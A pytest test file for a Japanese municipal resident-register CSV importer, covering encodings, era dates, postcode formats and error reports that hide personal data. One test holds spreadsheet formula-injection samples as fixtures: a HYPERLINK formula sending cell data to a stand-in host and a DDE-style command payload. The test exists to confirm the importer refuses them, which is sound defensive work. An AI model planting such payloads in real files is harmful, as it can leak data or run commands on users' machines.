import codecs
from datetime import date
from pathlib import Path

import pytest

from survey.errors import DataError
from survey.postal import parse_postal
from survey.register.reader import RegisterError, detect_encoding, district_of, read_register
from tests.conftest import Row

SHIKI = ["上宗岡", "中宗岡", "下宗岡", "本町", "幸町", "館", "柏町"]
ENGLISH = [
    "resident_id",
    "household_id",
    "name",
    "name_kana",
    "birth_date",
    "sex",
    "relation",
    "postal_code",
    "address",
    "building",
]


def rows() -> list[Row]:
    return [
        Row("1001", "H1", "1980-05-05", name="髙橋　一郎", name_kana="タカハシ　イチロウ"),
        Row("1002", "H1", "昭和57年3月3日", sex="女", name="山﨑　花子", relation="妻"),
        Row("1003", "H1", "H30.10.10", sex="2", relation="子", postal_code="3530004"),
        Row("1004", "H2", "2010/4/1", sex="1", building="パークハイツ志木101号室"),
    ]


@pytest.mark.parametrize("encoding", ["cp932", "shift_jis_2004", "utf-8", "utf-8-sig"])
def test_reads_municipal_encodings(register_file, encoding: str) -> None:
    data = rows() if encoding != "shift_jis_2004" else rows()[2:]  # SJIS lacks IBM kanji 髙﨑
    path = register_file(data, encoding=encoding)
    register = read_register(path, SHIKI)
    assert len(register.persons) == len(data)
    full = register.residents([p.line for p in register.persons])
    if encoding != "shift_jis_2004":
        assert [r.name for r in full.values()][:2] == ["髙橋　一郎", "山﨑　花子"]
    assert register.persons[-1].birth_date == date(2010, 4, 1)
    assert register.persons[-1].district == "本町"
    expected = {"utf-8-sig": "utf-8-sig", "utf-8": "utf-8"}.get(encoding, "cp932")
    assert register.encoding == expected


def test_character_outside_cp932_survives_utf8(register_file) -> None:
    path = register_file([Row("1", "H", "1990-01-01", name="𠮷田　太郎")])
    register = read_register(path)
    (resident,) = register.residents([register.persons[0].line]).values()
    assert resident.name == "𠮷田　太郎"


def test_english_headers_and_postcode_forms(register_file) -> None:
    path = register_file(
        [
            Row("1", "H", "1990-01-01", postal_code="３５３－０００５"),
            Row("2", "H", "1990-01-01", postal_code="〒353-0005"),
        ],
        headers=ENGLISH,
    )
    register = read_register(path)
    full = register.residents([p.line for p in register.persons])
    assert {r.postal_code for r in full.values()} == {"3530005"}


def test_sha256_is_of_the_file_bytes(register_file) -> None:
    import hashlib

    path = register_file(rows())
    assert read_register(path).sha256 == hashlib.sha256(path.read_bytes()).hexdigest()


def test_every_bad_row_is_reported_with_line_column_and_reason(register_file) -> None:
    path = register_file(
        [
            Row("1", "H1", "1980-01-01"),  # line 2: fine
            Row("2", "H1", "平成31年5月1日"),  # line 3: outside the era
            Row("3", "H1", "1980-01-01", sex="X"),  # line 4
            Row("4", "H1", "1980-01-01", postal_code="35300"),  # line 5
            Row("1", "H2", "1980-01-01"),  # line 6: duplicate of line 2
            Row("6", "H2", "1980-01-01", name=""),  # line 7: empty name
            Row("", "H2", "1980-01-01"),  # line 8: empty id
            ["7", "H3", "志木　一"],  # line 9: too few fields
        ]
    )
    with pytest.raises(RegisterError) as info:
        read_register(path)
    found = {(e.line, e.column) for e in info.value.errors}
    assert found == {
        (3, "birth_date"),
        (4, "sex"),
        (5, "postal_code"),
        (6, "resident_id"),
        (7, "name"),
        (8, "resident_id"),
        (9, "row"),
    }
    by_line = {e.line: e for e in info.value.errors}
    assert by_line[3].value == "平成31年5月1日" and "平成" in by_line[3].reason_ja
    assert by_line[4].value == "X"
    assert "line 2" in by_line[6].reason_en


def test_error_messages_never_show_names_addresses_or_ids(register_file) -> None:
    secret_name, secret_address = "秘密　花子", "埼玉県志木市秘密町9丁目"
    path = register_file(
        [
            Row("SECRET-ID-1", "H1", "1980-01-01", name=secret_name, address=secret_address),
            Row("SECRET-ID-1", "H1", "bad", name=secret_name, address=secret_address, sex="?"),
        ]
    )
    with pytest.raises(RegisterError) as info:
        read_register(path)
    text = "\n".join(str(e) for e in info.value.errors) + str(info.value)
    for secret in (secret_name, secret_address, "SECRET-ID-1", "H1"):
        assert secret not in text
    assert "bad" in text and "?" in text  # non-personal format values are echoed


def test_line_numbers_count_quoted_newlines(register_file, tmp_path: Path) -> None:
    path = tmp_path / "multiline.csv"
    header = ",".join(ENGLISH)
    path.write_text(
        f'{header}\n1,H,"志木\n太郎",,1980-01-01,男,,3530004,本町1,\n2,H,x,,bad,男,,3530004,本町1,\n',
        encoding="utf-8",
    )
    with pytest.raises(RegisterError) as info:
        read_register(path)
    assert [(e.line, e.column) for e in info.value.errors] == [(4, "birth_date")]


def test_missing_required_columns(register_file) -> None:
    path = register_file([["1", "H"]], headers=["住民コード", "世帯番号"])
    with pytest.raises(DataError) as info:
        read_register(path)
    assert "生年月日" in info.value.ja and "住所" in info.value.en


def test_empty_and_undecodable_files(tmp_path: Path) -> None:
    empty = tmp_path / "empty.csv"
    empty.write_bytes(b"")
    with pytest.raises(DataError):
        read_register(empty)
    header_only = tmp_path / "header.csv"
    header_only.write_text(",".join(ENGLISH) + "\n", encoding="utf-8")
    with pytest.raises(DataError, match="no data rows"):
        read_register(header_only)
    garbage = tmp_path / "garbage.csv"
    garbage.write_bytes(",".join(ENGLISH).encode() + b"\n\x82\xff\xfe\n")
    with pytest.raises(DataError) as info:
        read_register(garbage)
    assert "line 2" in info.value.en


def test_detect_encoding() -> None:
    text = "住民コード,氏名\n1,髙橋\n"
    assert detect_encoding(codecs.BOM_UTF8 + text.encode()) == "utf-8-sig"
    assert detect_encoding(text.encode("utf-8")) == "utf-8"
    assert detect_encoding(text.encode("cp932")) == "cp932"


@pytest.mark.parametrize(
    ("address", "district"),
    [
        ("埼玉県志木市本町3丁目2番15号", "本町"),
        ("志木市中宗岡1-2-3", "中宗岡"),
        ("柏町1-2-3", "柏町"),
        ("埼玉県志木市館二丁目5番", "館"),
        ("埼玉県志木市上宗岡四の五の六", "上宗岡"),
        ("東京都世田谷区太子堂四丁目1番", "その他"),
        ("埼玉県志木市", "その他"),
    ],
)
def test_district_of(address: str, district: str) -> None:
    assert district_of(address, SHIKI) == district


def test_only_listed_district_names_are_kept(register_file) -> None:
    """A digit-less address must not leak into the stored district (invariant 1)."""
    path = register_file(
        [
            Row("1", "H", "1980-01-01", address="埼玉県志木市本町グリーンハイツ田中方ＸＹＺ"),
            Row("2", "H", "1980-01-01", address="どこか遠くの町グリーン荘"),
        ]
    )
    districts = {p.district for p in read_register(path, SHIKI).persons}
    assert districts == {"本町", "その他"}


def test_rows_of_commas_and_trailing_commas(tmp_path: Path) -> None:
    path = tmp_path / "excel.csv"
    header = ",".join(ENGLISH)
    path.write_text(
        f"{header}\n1,H,x,,1980-01-01,男,,3530004,本町1,,\n2,H,y,,1980-01-01,男,,3530004,本町1,\n"
        ",,,,,,,,,\n,,,,,,,,,,,\n",
        encoding="utf-8",
    )
    assert [p.resident_id for p in read_register(path).persons] == ["1", "2"]


def test_every_duplicate_is_reported_and_ids_are_normalised(register_file) -> None:
    path = register_file(
        [
            Row("R1", "H", "bad date"),  # line 2: bad, and its id is still tracked
            Row("R1", "H", "1980-01-01"),  # line 3: duplicate of line 2
            Row("Ｒ１", "H", "1980-01-01"),  # line 4: the same id in full-width form
        ]
    )
    with pytest.raises(RegisterError) as info:
        read_register(path)
    assert sorted((e.line, e.column) for e in info.value.errors) == [
        (2, "birth_date"),
        (3, "resident_id"),
        (4, "resident_id"),
    ]


def test_bom_followed_by_bytes_that_are_not_utf8(tmp_path: Path) -> None:
    path = tmp_path / "bom.csv"
    path.write_bytes(codecs.BOM_UTF8 + ",".join(ENGLISH).encode() + b"\n\x82\xa0\n")
    with pytest.raises(DataError, match="encoding"):
        read_register(path)


def test_birth_dates_before_meiji_are_rejected(register_file) -> None:  # type: ignore[no-untyped-def]
    path = register_file([Row("1", "h1", "0001-01-01"), Row("2", "h2", "1868-01-24")])
    with pytest.raises(RegisterError) as info:
        read_register(path)
    assert [e.line for e in info.value.errors] == [2, 3]
    assert all("Meiji" in e.reason_en for e in info.value.errors)


def test_a_damaged_byte_is_reported_on_its_own_line(register_file, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    path = register_file(
        [Row(str(i), f"h{i}", "1980-01-01") for i in range(1, 8)], encoding="utf-8"
    )
    lines = path.read_bytes().split(b"\r\n")
    lines[5] = lines[5].replace("志木".encode(), b"\xff\xfe", 1)  # line 6 of the file
    damaged = tmp_path / "damaged.csv"
    damaged.write_bytes(b"\r\n".join(lines))
    with pytest.raises(DataError) as info:
        read_register(damaged)
    assert "UTF-8" in info.value.en and "line 6" in info.value.en


def test_names_and_addresses_that_start_a_spreadsheet_formula_are_refused(register_file) -> None:  # type: ignore[no-untyped-def]
    # A ' prefix (the CSV writers' escape) would be printed on the envelope, so the import
    # refuses what a spreadsheet would run as a formula; a leading "-" passes (escaped later).
    path = register_file(
        [
            Row("1", "H1", "1980-01-01", name='=HYPERLINK("http://evil.example/?"&A1)'),  # 2
            Row("2", "H1", "1980-01-01", name_kana="+1+1"),  # 3
            Row("3", "H1", "1980-01-01", address="@SUM(1+1)*cmd|' /C calc'!A0"),  # 4
            Row("4", "H1", "1980-01-01", building="=1+1"),  # 5
            Row("5", "H1", "1980-01-01", building="-101号室", name="-志木　太郎"),  # 6: fine
            ["6", "H2", "=2", "", "1980-01-01", "男", "", "353-0004", "\t=3+3", ""],  # 7
        ]
    )
    with pytest.raises(RegisterError) as info:
        read_register(path)
    found = {(e.line, e.column) for e in info.value.errors}
    assert found == {
        (2, "name"),
        (3, "name_kana"),
        (4, "address"),
        (5, "building"),
        (7, "name"),
        (7, "address"),
    }
    text = "\n".join(str(e) for e in info.value.errors)
    assert "HYPERLINK" not in text and "SUM" not in text and "=1+1" not in text
    assert all(e.value is None for e in info.value.errors)  # never the value
    assert "数式" in text and "formula" in text


@pytest.mark.parametrize(
    "spelling",
    [
        "353-0005",
        "3530005",
        "〒353-0005",
        "〒 353-0005",
        "３５３－０００５",
        "３５３０００５",
        "353ー0005",
        "353ｰ0005",
        "353‐0005",
        "353–0005",
        "353−0005",
        " 353-0005 ",
    ],
)
def test_postcode_spellings_accepted(spelling: str) -> None:
    assert parse_postal(spelling) == "3530005"


@pytest.mark.parametrize(
    "spelling",
    [
        "35-30005",
        "3530-005",
        "353--0005",
        "353-00-05",
        "-3530005",
        "3530005-",
        "353-000",
        "35300050",
        "353 0005",
        "３５３－０００",
        "353-000５x",
        "",
    ],
)
def test_postcode_spellings_refused(spelling: str) -> None:
    # Seven digits with the hyphen elsewhere is not a postcode someone wrote: a typo to show.
    assert parse_postal(spelling) is None


def test_a_misplaced_postcode_hyphen_is_a_named_error(register_file) -> None:  # type: ignore[no-untyped-def]
    path = register_file([Row("1", "H", "1990-01-01", postal_code="35-30002")])
    with pytest.raises(RegisterError) as info:
        read_register(path)
    (error,) = info.value.errors
    assert (error.line, error.column, error.value) == (2, "postal_code", "35-30002")
    assert "NNN-NNNN" in error.reason_en
